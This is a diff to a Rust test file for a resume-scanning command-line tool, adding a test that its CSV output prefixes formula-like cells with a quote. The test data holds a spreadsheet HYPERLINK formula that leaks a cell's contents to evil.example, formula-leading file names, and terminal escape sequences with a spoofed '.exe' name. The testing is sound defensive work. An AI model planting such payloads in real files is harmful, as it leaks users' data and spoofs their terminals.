@@ -1,8 +1,8 @@
-//! Careless commands and hostile names, generated at test time: no control character from a file reaches a
-//! terminal.
+//! Careless commands and hostile names, generated at test time: CSV cells never start a formula, and no
+//! control character from a file reaches a terminal.
 
 use std::fs;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::process::Command;
 
 use serde_json::Value;
@@ -23,8 +23,14 @@ fn run(command: &mut Command) -> (i32, String, String) {
     )
 }
 
-/// A lexicon pair whose skill names start like formulas and carry terminal controls.
-fn hostile_lexicons(dir: &Path) {
+// ---- 3. CSV cells never start a formula ----
+
+/// Under `dir`: a folder of lexicons whose skill names start like formulas and carry terminal controls, and an
+/// empty folder for documents.
+fn hostile_lexicons(dir: &Path) -> (PathBuf, PathBuf) {
+    let (lexicons, docs) = (dir.join("lexicons"), dir.join("docs"));
+    fs::create_dir(&lexicons).expect("dir");
+    fs::create_dir(&docs).expect("dir");
     let role = |id: &str, noun: &str, skills: &str| {
         format!("id = \"{id}\"\nname = \"Cloud {noun}\"\ntitles = [\"cloud {noun}\"]\n{skills}")
     };
@@ -40,8 +46,54 @@ fn hostile_lexicons(dir: &Path) {
     let engineer = skill("terraform", "-Terraform\\u009b2J", 3, "\"terraform\"")
         + &skill("bash", "+Bash\\nFAKE ROW", 2, "\"bash\"")
         + &skill("kubernetes", "Kubernetes", 1, "\"kubernetes\"");
-    fs::write(dir.join("architect.toml"), role("architect", "architect", &architect)).expect("write");
-    fs::write(dir.join("engineer.toml"), role("engineer", "engineer", &engineer)).expect("write");
+    fs::write(lexicons.join("architect.toml"), role("architect", "architect", &architect)).expect("write");
+    fs::write(lexicons.join("engineer.toml"), role("engineer", "engineer", &engineer)).expect("write");
+    (lexicons, docs)
+}
+
+/// Whether a CSV cell would be evaluated by a spreadsheet.
+fn is_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
+}
+
+#[test]
+fn csv_cells_never_start_a_formula_unless_raw() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (lexicons, docs) = hostile_lexicons(dir.path());
+    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Senior Cloud Engineer\")";
+    fs::write(docs.join("=cmd.txt"), format!("{title}\n\n{RESUME}")).expect("write");
+    fs::write(docs.join("-2+3.txt"), RESUME).expect("write");
+    fs::write(docs.join("@sum.xlsx"), "not read").expect("write");
+    let scan = |raw: bool| {
+        let mut command = rolefit();
+        command
+            .current_dir(&docs)
+            .args(["scan", "--format", "csv", "--target", "architect", "--lexicons"])
+            .arg(&lexicons);
+        if raw {
+            command.arg("--csv-raw");
+        }
+        // File names as given, relative, so the path cells start with the names.
+        command.args(["--", "=cmd.txt", "-2+3.txt", "@sum.xlsx"]);
+        let (code, stdout, stderr) = run(&mut command);
+        assert_eq!(code, 0, "{stderr}");
+        let mut reader = csv::Reader::from_reader(stdout.as_bytes());
+        reader.records().map(|r| r.expect("record").iter().map(String::from).collect::<Vec<_>>()).collect::<Vec<_>>()
+    };
+    let rows = scan(false);
+    assert_eq!(rows.len(), 3);
+    let cells: Vec<&String> = rows.iter().flatten().collect();
+    let formulas: Vec<&&String> = cells.iter().filter(|c| is_formula(c)).collect();
+    assert!(formulas.is_empty(), "formula cells: {formulas:?}");
+    let paths: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
+    assert_eq!(paths, ["'=cmd.txt", "'-2+3.txt", "'@sum.xlsx"], "file names, skipped ones too");
+    assert_eq!(rows[0][4], format!("'{title}"), "the title is kept, behind a quote");
+    let missing = rows.iter().map(|r| r[r.len() - 2].as_str()).find(|m| !m.is_empty()).expect("a missing column");
+    assert!(missing.starts_with("'=HYPERLINK("), "a skill name of the lexicon: {missing}");
+    assert!(rows[0][6].parse::<f64>().is_ok(), "the confidence stays a number: {}", rows[0][6]);
+    let raw = scan(true);
+    assert_eq!(raw[0][0], "=cmd.txt", "--csv-raw writes cells as they are");
+    assert_eq!(raw[0][4], title);
 }
 
 // ---- 4. nothing from a file drives the terminal ----
@@ -61,11 +113,7 @@ fn assert_terminal_safe(what: &str, text: &str) {
 #[test]
 fn no_control_character_from_a_file_reaches_the_terminal() {
     let dir = tempfile::tempdir().expect("tempdir");
-    let lexicons = dir.path().join("lexicons");
-    fs::create_dir(&lexicons).expect("dir");
-    hostile_lexicons(&lexicons);
-    let docs = dir.path().join("docs");
-    fs::create_dir(&docs).expect("dir");
+    let (lexicons, docs) = hostile_lexicons(dir.path());
     let fake_row = "x\nengineer   1.00  fake row.txt";
     let hostile_title = "Cloud Engineer \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}]8;;https://evil.example\u{1b}\\link\u{9b}31m \u{202e}gnp.exe";
     let body =
